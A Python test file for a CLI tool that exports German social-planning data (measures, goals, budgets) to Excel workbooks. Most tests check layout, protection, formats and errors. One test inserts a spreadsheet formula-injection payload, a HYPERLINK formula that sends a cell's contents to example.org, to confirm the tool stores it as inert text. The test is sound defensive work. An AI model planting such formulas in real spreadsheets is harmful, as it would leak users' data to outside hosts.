"""`sozplan table`: workbooks that offices can fill in without being told how."""

from __future__ import annotations

import shutil
from datetime import date, datetime, time
from pathlib import Path

import openpyxl
import pytest

from tests.cli.repository import AREA, Repository, Sozplan, sozplan_on
from tests.cli.workbooks import Workbook

ROOT = Path(__file__).resolve().parents[2]
KREIS = ROOT / "tests/examples/kreis"


def made(sozplan: Sozplan, kind: str, folder: Path, *options: str) -> Workbook:
    path = folder / f"{kind}.xlsx"
    said = sozplan("table", kind, "--out", str(path), *options)
    assert (said.code, said.err, said.out) == (0, "", f"{path}\n")
    return Workbook(path)


def test_a_sheet_of_measures(sozplan: Sozplan, tmp_path: Path) -> None:
    book = made(sozplan, "measures", tmp_path)
    assert book.book.sheetnames == ["Maßnahmen", "Hinweise", "Auswahl", "sozplan"]
    page = book.book["Maßnahmen"]
    said = {cell.value: page.cell(2, cell.column).value for cell in page[1]}
    assert said == {
        "Kennung": "hafen-m1",
        "Titel *": "Kita-Lotsen im Hafentreff",
        "Gebietsplan *": "hafen-2026 · Sozialraumgebietsplan Hafen 2026–2029",
        "Status": "beschlossen",
        "Stand": "läuft",
        "Verantwortliche Stelle": "amt-51 · Amt 51",
        "Durchführend": "hafentreff-ev · Hafentreff e. V.",
        "Partner": None,
        "Beschreibung": None,
        "Ziele": "hafen-g1 · Kita-Besuch",
        "Handlungsfeld": "bildung · Bildung und Betreuung",
        "Zielgruppen": "familien · Familien mit kleinen Kindern",
        "Aufgabenart": "freiwillig",
        "Verbindlichkeit *": "beschlossen",
        "Haushaltsvorbehalt *": "nein",
        "Geplant: Von": datetime.combine(date(2026, 2, 1), time()),
        "Geplant: Bis": datetime.combine(date(2029, 12, 31), time()),
        "Voraussichtlich: Von": None,
        "Voraussichtlich: Bis": None,
        "Tatsächlich: Von": datetime.combine(date(2026, 2, 1), time()),
        "Tatsächlich: Bis": None,
        "Reichweite: Anzahl": None,
        "Reichweite: Einheit": None,
        "Ansatz aller Jahre": 240000,
        "Förderprogramme": "land-kita · Landesprogramm Kita-Zugang",
        "Verträge": said["Verträge"],
        "Anschlussfinanzierung": said["Anschlussfinanzierung"],
        "Folgekosten": None,
        "Letzter Zwischenbericht": said["Letzter Zwischenbericht"],
    }


def test_what_can_be_filled_in(sozplan: Sozplan, tmp_path: Path) -> None:
    book = made(sozplan, "measures", tmp_path)
    page = book.book["Maßnahmen"]
    shut = {cell.value for cell in page[1] if page.cell(2, cell.column).protection.locked}
    assert shut == {"Kennung", "Gebietsplan *", "Status", "Ansatz aller Jahre", "Letzter Zwischenbericht"}
    assert not book.cell("Maßnahmen", book.free("Maßnahmen"), "Gebietsplan").protection.locked
    assert (page.freeze_panes, page.protection.sheet, book.book["sozplan"].sheet_state) == ("C2", True, "hidden")
    assert page.auto_filter.ref == f"A1:{page.cell(1, page.max_column).column_letter}{page.max_row}"
    lists = {
        str(rule.sqref).split(":")[0]: rule.formula1
        for rule in page.data_validations.dataValidation
        if rule.type == "list"
    }
    place = book.cell("Maßnahmen", "hafen-m1", "Stand").coordinate
    sheet, cells = lists[place].split("!")
    offered = [row[0].value for row in book.book[sheet.strip("'")][cells.replace("$", "")]]
    assert offered == ["geplant", "läuft", "abgeschlossen", "abgebrochen"]
    assert book.cell("Maßnahmen", "hafen-m1", "Geplant: Von").number_format == "dd\\.mm\\.yyyy"


def test_numbers_of_the_budget_stay_text(sozplan: Sozplan, tmp_path: Path) -> None:
    book = made(sozplan, "budget", tmp_path)
    product = book.cell("Mittel", "hafen-m1/2026/06.02.01/5101", "Produkt")
    assert (product.value, product.data_type, product.number_format) == ("06.02.01", "s", "@")
    planned = book.cell("Mittel", "hafen-m1/2026/06.02.01/5101", "Ansatz")
    assert (planned.value, planned.number_format) == (60000, '#,##0.00\\ "€"')
    heads = [cell.value for cell in book.book["Mittel"][1]]
    assert [each for each in heads if each.startswith("Finanzierung")] == [
        "Finanzierung: Eigenmittel",
        "Finanzierung: Drittmittel",
        "Finanzierung: Landesprogramm Kita-Zugang",
    ]


def test_goals_show_what_status_publishes(sozplan: Sozplan, tmp_path: Path) -> None:
    import json

    book = made(sozplan, "goals", tmp_path)
    assert book.book.sheetnames[:3] == ["Ziele", "Zielwerte", "Strategische Ziele"]
    (published,) = (
        each
        for each in json.loads(sozplan("status", "--format", "json").out)["targets"]
        if each["target"] == "hafen-g1-t1"
    )
    said = {head: book.cell("Zielwerte", "hafen-g1-t1", head).value for head in ("Ist", "Zielerreichung in %")}
    assert said == {"Ist": published["actual"], "Zielerreichung in %": published["attainment"]}
    assert book.cell("Zielwerte", "hafen-g1-t1", "Untergrenze").protection.locked  # no field of this kind of target


def test_in_english(sozplan: Sozplan, tmp_path: Path) -> None:
    book = made(sozplan, "measures", tmp_path, "--lang", "en")
    assert book.book.sheetnames == ["Measures", "Notes", "Choices", "sozplan"]
    assert book.cell("Measures", "hafen-m1", "Progress").value == "running"


def test_internal_figures_say_so(sozplan: Sozplan, tmp_path: Path) -> None:
    book = made(sozplan, "goals", tmp_path, "--audience", "internal")
    warning = "NUR FÜR DEN DIENSTGEBRAUCH: enthält nicht veröffentlichte Zahlen."
    assert book.cell("Zielwerte", "hafen-g1-t1", "Weitergabe").value == warning
    assert book.book["Hinweise"]["A1"].value == warning


@pytest.mark.parametrize("kind", ["measures", "goals", "budget"])
def test_the_same_bytes(kind: str, sozplan: Sozplan, tmp_path: Path) -> None:
    first, second = (made(sozplan, kind, tmp_path / name).path for name in ("a", "b"))
    assert first.read_bytes() == second.read_bytes()


def test_it_takes_its_own_place_and_no_other(sozplan: Sozplan, tmp_path: Path) -> None:
    path = made(sozplan, "measures", tmp_path).path
    assert sozplan("table", "budget", "--out", str(path)).code == 0
    path.write_bytes(b"mine")
    said = sozplan("table", "budget", "--out", str(path))
    assert said.code == 2
    assert (
        said.err
        == f"sozplan: „{path}“ gibt es schon und stammt nicht von sozplan. Mit --force wird die Datei ersetzt.\n"
    )


def test_a_text_that_looks_like_a_formula_is_none(repository: Repository, sozplan: Sozplan, tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://example.org/?"&A1;"x")'
    repository.edit(AREA, ("title: Kita-Lotsen im Hafentreff", f"title: '{evil}'\n    description: '@SUM(1+1)'"))
    path = made(sozplan, "measures", tmp_path / "out").path
    book = Workbook(path)
    for head, said in (("Titel", evil), ("Beschreibung", "@SUM(1+1)")):
        cell = book.cell("Maßnahmen", "hafen-m1", head)
        assert (cell.value, cell.data_type, cell.quotePrefix) == (said, "s", True)
    assert all(cell.data_type != "f" for page in book.book for row in page.iter_rows() for cell in row)
    assert sozplan("apply", str(path)).out == "Nichts zu übernehmen.\n"


def test_a_plan_alone(sozplan: Sozplan, tmp_path: Path) -> None:
    book = made(sozplan, "goals", tmp_path, "hafen-2026")
    assert "Strategische Ziele" not in book.book.sheetnames
    said = sozplan("table", "goals", "hafn-2026", "--out", str(tmp_path / "x.xlsx"))
    assert said.code == 2
    assert said.err.startswith("sozplan: Den Plan „hafn-2026“ gibt es nicht.")


def test_only_workbooks(sozplan: Sozplan, tmp_path: Path) -> None:
    said = sozplan("table", "goals", "--out", str(tmp_path / "x.csv"))
    assert (said.code, said.err) == (2, f"sozplan: --out: „{tmp_path / 'x.csv'}“ muss auf .xlsx enden.\n")


def test_another_municipality(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    shutil.copytree(KREIS, tmp_path / "kreis")
    book = made(sozplan_on(tmp_path / "kreis", capsys), "measures", tmp_path)
    assert book.cell("Measures", "geest-m1", "Responsible").value.startswith("unit-youth · ")
    assert openpyxl.load_workbook(book.path).properties.creator == "sozplan"
